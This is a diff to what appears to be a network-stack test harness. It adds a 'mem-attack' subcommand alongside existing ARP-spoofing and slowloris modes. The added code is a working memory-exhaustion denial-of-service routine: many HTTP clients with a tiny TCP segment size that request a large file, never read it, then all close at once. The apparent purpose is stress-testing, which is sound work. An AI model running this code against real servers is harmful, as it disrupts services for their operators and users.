@@ -11,6 +11,9 @@ to the namespace's TAP. Each subcommand prints one JSON object on stdout.
               and a normal client counting its successful requests
   udp-bcast   datagrams to broadcast, multicast and unicast echo addresses;
               report which came back
+  mem-attack  clients that fetch a large file and never read (first with
+              TCP_MAXSEG 88, then with the default MSS), then clients that
+              read at a fixed rate; all close at once at the end
 """
 import argparse
 import json
@@ -259,6 +262,91 @@ def udp_bcast(a):
     print(json.dumps({"sent": [n for n, _ in sends], "echoed": got}))
 
 
+TCP_INFO_STATE_CLOSE = 7
+
+
+def tcp_state(s):
+    try:
+        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
+    except OSError:
+        return TCP_INFO_STATE_CLOSE
+
+
+def mem_attack(a):
+    """Phases start `phase` seconds apart: `tiny` non-reading clients with
+    TCP_MAXSEG 88, then `plain` non-reading ones, then `slow` ones reading
+    `rate` bytes/s each. `hold` seconds after the last phase every socket is
+    closed at once (unread data: the kernel sends RST)."""
+    request = f"GET {a.path} HTTP/1.1\r\nHost: {a.target}\r\n\r\n".encode()
+    phases = [("tiny", a.tiny), ("plain", a.plain), ("slow", a.slow)]
+    kinds = {k: {"opened": 0, "failed": 0, "requested": 0, "reset": 0, "bytes": 0} for k, _ in phases}
+    conns = []  # [sock, kind, requested, budget]
+    t0 = time.monotonic()
+    end = t0 + a.phase * (len(phases) - 1) + a.hold
+    started = 0
+    last = t0
+    while time.monotonic() < end:
+        now = time.monotonic()
+        while started < len(phases) and now >= t0 + a.phase * started:
+            kind, n = phases[started]
+            for _ in range(n):
+                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                if kind == "tiny":
+                    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)
+                s.setblocking(False)
+                if s.connect_ex((a.target, a.port)) not in (0, 115):  # EINPROGRESS
+                    kinds[kind]["failed"] += 1
+                    s.close()
+                    continue
+                kinds[kind]["opened"] += 1
+                conns.append([s, kind, False, 0.0])
+            started += 1
+        dt = now - last
+        last = now
+        for c in conns:
+            s, kind = c[0], c[1]
+            if s is None:
+                continue
+            if not c[2]:
+                try:
+                    s.send(request)
+                    c[2] = True
+                    kinds[kind]["requested"] += 1
+                except (BlockingIOError, OSError):
+                    pass
+                continue
+            if kind != "slow":
+                continue
+            c[3] = min(c[3] + a.rate * dt, a.rate)  # at most a second's worth banked
+            if c[3] < 4096:
+                continue
+            try:
+                got = s.recv(int(c[3]))
+            except BlockingIOError:
+                continue
+            except OSError:
+                got = b""
+            if not got:
+                kinds[kind]["reset"] += 1
+                s.close()
+                c[0] = None
+                continue
+            c[3] -= len(got)
+            kinds[kind]["bytes"] += len(got)
+        time.sleep(0.02)
+    for c in conns:
+        s = c[0]
+        if s is None:
+            continue
+        if tcp_state(s) == TCP_INFO_STATE_CLOSE:
+            kinds[c[1]]["reset"] += 1
+    closed_at = time.monotonic()
+    for c in conns:
+        if c[0] is not None:
+            c[0].close()
+    print(json.dumps({"kinds": kinds, "elapsed_s": round(closed_at - t0, 3)}))
+
+
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest="cmd", required=True)
@@ -296,8 +384,23 @@ def main():
     q.add_argument("--port", type=int, default=7)
     q.add_argument("--timeout", type=float, default=5.0)
     q.add_argument("--grace", type=float, default=0.5)
+    q = sub.add_parser("mem-attack")
+    q.add_argument("--target", required=True)
+    q.add_argument("--port", type=int, required=True)
+    q.add_argument("--path", required=True)
+    q.add_argument("--tiny", type=int, default=5)
+    q.add_argument("--plain", type=int, default=100)
+    q.add_argument("--slow", type=int, default=120)
+    q.add_argument("--rate", type=float, default=20_000)
+    q.add_argument("--phase", type=float, default=3.0)
+    q.add_argument("--hold", type=float, default=4.0)
     a = p.parse_args()
-    {"arp-spoof": arp_spoof, "slowloris": slowloris, "udp-bcast": udp_bcast}[a.cmd](a)
+    {
+        "arp-spoof": arp_spoof,
+        "slowloris": slowloris,
+        "udp-bcast": udp_bcast,
+        "mem-attack": mem_attack,
+    }[a.cmd](a)
 
 
 if __name__ == "__main__":
